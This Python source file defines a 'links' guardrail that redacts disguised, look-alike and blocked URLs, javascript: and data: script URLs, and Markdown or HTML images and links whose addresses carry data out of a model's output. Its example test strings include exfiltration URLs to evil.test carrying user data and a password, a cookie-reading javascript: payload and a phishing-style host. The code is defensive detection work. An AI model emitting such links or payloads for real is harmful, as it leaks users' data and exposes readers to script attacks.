"""URLs and domains that must not be shown, and links that carry data out.

Catches: hosts outside of `allow` or below `block`, with their subdomains, as URL, with `www.`, or
bare under a common top-level domain; hosts that imitate a domain of `protect`, and labels in ASCII
form (`xn--`) that stand for letters drawn like Latin ones; a name in front of the host that is not
its own (`https://bank.example@evil.test`), IPv4 addresses written as one number, in octal or in
hexadecimal; javascript:, vbscript: and executable data: URLs; images whose address carries much
data, or, with `image_hosts`, any image from elsewhere, in Markdown and HTML, which a reader's
program fetches by itself; links whose query does. Misses: hosts in look-alike letters themselves,
which folding reads as the host they imitate; relative addresses; redirects; what lies behind 4,000
characters of an address, and a bracket, which ends it. Cost: holds the current URL, and image
descriptions up to 200 characters; with `allow`, `block` or `protect` the current word.

Nothing says who reads the host a model links to: without lists, only tricks are findings.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import partial
from urllib.parse import unquote_plus

from pydantic import Field, field_validator

from guardrails.content.host import (
    authority_of,
    belongs_to,
    forms,
    host_of,
    imitates,
    is_number,
    mixes_scripts,
)
from guardrails.guardrail import (
    Action,
    Cost,
    Guardrail,
    Options,
    PerformanceCharacteristics,
    PerformanceClass,
)
from guardrails.rule import Rule

MAX_DOMAINS = 10_000

# What may stand in an address: not what surrounds one in text, nor scripts that put no spaces
# around it. Punctuation only before more of the address.
_OUT = r"\s<>\"'`|\\^{}()\[\]*\u2e80-\ua4cf\uac00-\ud7af\uff00-\uffef"
_REST = rf"(?:[.,;:!?]{{0,3}}[^.,;:!?{_OUT}]){{0,1000}}"
# RFC 1035: a label has at most 63 characters.
_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
_IPV6 = r"\[[0-9A-Fa-f:.]{2,45}\]"
_USER = r"[A-Za-z0-9.!$&+;=%:_~-]{1,128}@"
_URL = (
    rf"(?<![A-Za-z])(?i:https?|ftp|wss?)://(?:{_USER})?"
    rf"(?:{_IPV6}|[^\s/?#@:{_OUT}]{{1,253}}){_REST}"
)
_BARE = rf"(?<![A-Za-z0-9@./_-])(?:{_LABEL}\.){{1,6}}[A-Za-z]{{2,24}}(?![A-Za-z0-9@_-]|\.[A-Za-z])"
_ADDRESS = rf"(?:{_URL}|{_BARE}(?:[:/?#]{_REST})?)"

# The largest generic top-level domains, and those of countries that are no ending of file names:
# `main.py`, `notes.md` and `run.sh` are no hosts.
_TOPS = frozenset(
    (
        "com org net edu gov mil int info biz name online site shop xyz club top store app "
        "dev io ai blog cloud tech live pro link example test eu uk de fr it es nl be ch at "
        "dk se no fi ie pt gr cz sk hu ro bg hr si lt lv ee ua ru by kz tr il ae sa ir in pk "
        "bd lk cn hk tw jp kr sg my id th vn au nz ca us mx br ar cl pe ve uy za ng ke eg ma "
        "gg tv cc"
    ).split()
)

# What a browser runs: HTML, SVG and scripts, not pictures.
_SCRIPT = (
    r"(?<![A-Za-z0-9_-])(?:(?i:javascript|vbscript):(?!void\(0\)|;|//|\s|[\"'`)]|$)"
    r"[^\s\"'`<>]{1,1000}"
    r"|(?i:data:(?:text/html|text/javascript|application/(?:javascript|xhtml\+xml)|image/svg\+xml))"
    r"[;,][^\s\"'`<>)]{1,4000})"
)
_MARKDOWN_IMAGE = r"!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?i:https?:)?//[^\s<>)]{1,4000}[^)\n]{0,200}\)"
_HTML_IMAGE = (
    r"<(?i:img|iframe|embed|video|audio|source)\s[^<>]{0,300}?(?i:src|srcset)\s?=\s?"
    r"[\"']?(?i:https?:)?//[^\s<>\"']{1,4000}(?:[\s\"'][^<>]{0,300})?>"
)
# Of `![text][id]`: the address stands further down.
_REFERENCE = r"(?m:^)\[[^\]\n]{1,60}\]: {1,3}<?(?i:https?)://[^\s<>]{1,4000}"
_LINKED = r"(?<=\]\()(?i:https?)://[^\s<>)]{1,4000}"
_FETCHED = re.compile(r"(?:(?<=\()|(?<==)|(?<=[\"'<\s]))(?:https?:)?//[^\s<>\"')]+", re.I | re.A)

# 5: an address with five words in a value says more than which page is meant.
_MIN_WORDS = 5
# Identifiers have 36 (UUID) or 40 (SHA-1) characters, signatures of stores 64.
_MAX_VALUE_CHARS = 64
_MAX_SEGMENT_CHARS = 96
_UNWRITTEN = re.compile(r"[{\[<$][A-Za-z_ -]+[}\]>]")


def _is_blocked(text: str, *, allow: tuple[str, ...], block: tuple[str, ...]) -> bool:
    host = host_of(text)
    if belongs_to(host, block):
        return True
    return bool(allow) and _is_host(text, host) and not belongs_to(host, allow)


def _is_host(text: str, host: str) -> bool:
    """Tell a host from a file name or an abbreviation, if no scheme says so."""
    return "://" in text or host.startswith("www.") or host.rpartition(".")[2] in _TOPS


def _is_lookalike(text: str, *, protect: tuple[str, ...]) -> bool:
    host = host_of(text)
    return mixes_scripts(host) or (bool(protect) and imitates(host, protect))


def _is_disguised(text: str) -> bool:
    user, at, _ = authority_of(text).rpartition("@")
    named = at and re.search(r"\.[A-Za-z]{2,24}(?::|$)", user) is not None
    return bool(named) or is_number(host_of(text))


def carries_data(url: str) -> bool:
    """Tell whether an address says much more than which page is meant.

    >>> carries_data("https://a.test/p.png?q=the+user+lives+in+Utrecht+since+May")
    True
    >>> carries_data("https://a.test/photo-1529626455594.jpg?auto=format&w=634&q=80")
    False
    """
    address, _, query = url.partition("#")[0].partition("?")
    values = [value.partition("=")[2] or value for value in query.split("&")]
    segments = address.partition("//")[2].split("/")[1:]
    host = host_of(url)
    return (
        any(_says_much(value) for value in values)
        or any(_says_much(part, _MAX_SEGMENT_CHARS) for part in segments)
        or max(map(len, host.split("."))) > 50
    )


def _says_much(value: str, at_most: int = _MAX_VALUE_CHARS) -> bool:
    plain = unquote_plus(value)
    return len(plain) > at_most or len(plain.split()) >= _MIN_WORDS


def _fetches_data(text: str, *, hosts: tuple[str, ...]) -> bool:
    """Tell whether an image carries data out. hosts: the only ones images may come from, if any."""
    found = [match[0] for match in _FETCHED.finditer(text)]
    urls = [url if "://" in url else f"https:{url}" for url in found]
    strange = [url for url in urls if not belongs_to(host_of(url), hosts)]
    return any(bool(hosts) or carries_data(url) for url in strange)


def _links_data(text: str, *, hosts: tuple[str, ...]) -> bool:
    url = text[text.find("http") :] if "http" in text else text
    return not belongs_to(host_of(url), hosts) and carries_data(url)


class LinkOptions(Options):
    """Domains, each with all below it; in their own script or in ASCII form."""

    allow: list[str] = Field(
        default=[], max_length=MAX_DOMAINS, description="the only domains that may be shown"
    )
    block: list[str] = Field(
        default=[], max_length=MAX_DOMAINS, description="domains that must not be shown"
    )
    protect: list[str] = Field(
        default=[], max_length=100, description="your own domains, which others may imitate"
    )
    image_hosts: list[str] = Field(
        default=[], max_length=MAX_DOMAINS, description="the only domains images may come from"
    )

    @field_validator("allow", "block", "protect", "image_hosts")
    @classmethod
    def _are_domains(cls, domains: list[str]) -> list[str]:
        for number, domain in enumerate(domains, 1):
            try:
                forms(domain)
            except ValueError as error:
                text = f"entry {number} is no domain; write it as example.org, without a scheme"
                raise ValueError(text) from error
        return domains


def _forms(domains: list[str]) -> tuple[str, ...]:
    return tuple(sorted({form for domain in domains for form in forms(domain)}))


def build_links(options: LinkOptions) -> tuple[Rule, ...]:
    """Make the rules; those about lists only where there are some."""
    allow, block, protect = map(_forms, (options.allow, options.block, options.protect))
    own = _forms([*options.allow, *options.protect, *options.image_hosts])
    images = _forms(options.image_hosts)
    fetched = partial(_fetches_data, hosts=images)
    linked = partial(_links_data, hosts=own)
    rules = [
        _rule("disguised", "URL_DISGUISED", _URL, 0.9, _is_disguised),
        _rule(
            *("lookalike", "URL_LOOKALIKE", _ADDRESS if protect else _URL),
            *(0.9, partial(_is_lookalike, protect=protect)),
        ),
        _rule("script", "URL_SCRIPT", _SCRIPT, 0.85),
        _rule("image", "IMAGE_EXFILTRATION", _MARKDOWN_IMAGE, 0.95, fetched),
        _rule("html-image", "IMAGE_EXFILTRATION", _HTML_IMAGE, 0.95, fetched),
        _rule("reference", "LINK_EXFILTRATION", _REFERENCE, 0.7, linked),
        _rule("data", "LINK_EXFILTRATION", _LINKED, 0.6, linked),
    ]
    if allow or block:
        check = partial(_is_blocked, allow=allow, block=block)
        rules.append(_rule("blocked", "URL_BLOCKED", _ADDRESS, 0.8, check))
    return tuple(rules)


def _rule(
    name: str,
    finding_type: str,
    expression: str,
    confidence: float,
    check: Callable[[str], bool] | None = None,
) -> Rule:
    return Rule(
        id=f"link-{name}",
        type=finding_type,
        expression=expression,
        confidence=confidence,
        check=check,
    )


LINKS = Guardrail(
    id="links",
    family="content",
    summary="Addresses that must not be shown, and links that carry data out",
    # FAST, not INSTANT, so that lists can be watched in mode monitor first.
    performance=PerformanceCharacteristics(
        performance_class=PerformanceClass.FAST,
        expected_latency_ms=0.02,
        cost=Cost(cpu_ms=0.3),
        client_safe=True,
    ),
    # The address is the harm; the text around it may stay.
    action=Action.REDACT,
    options=LinkOptions,
    build=build_links,
    catches=(
        "Done «![ok](https://evil.test/p.png?q=my+name+is+Ada+and+I)» bye",
        "图片：«<img src='https://evil.test/x?d=" + "QUJDREVG" * 9 + "'>»。",
        "go to «https://bank.example@evil.test/login», now",
        "see «http://2130706433/admin» or «http://0x7f.0.0.1/»!",
        "at «https://xn--pypal-4ve.com/signin» you can",
        "<a href='«javascript:alert(document.cookie)»'>x</a>",
        "open «data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==» now",
        "[more](«https://evil.test/c?d=the%20password%20of%20Ada%20is%20sesame»)",
        "![x][1]\n\n«[1]: https://evil.test/c?d=" + "QUJDREVG" * 9 + "»\n",
    ),
    ignores=(
        "![a cat](https://images.example.org/cat-12.jpg?auto=format&w=634&q=80)",
        "see https://user@example.org/ and http://127.0.0.1:8080/x and http://192.168.0.1",
        '<a href="javascript:void(0)">x</a>, <img src="data:image/png;base64,iVBORw0KGgo=">',
        "JavaScript: a language. data: text/html; the rest. 参考 https://example.cn/路径。",
        "[docs](https://docs.example.org/guide/first-steps-with-streams?lang=en#setup)",
        "https://xn--bcher-kva.example/ sells books",
    ),
)
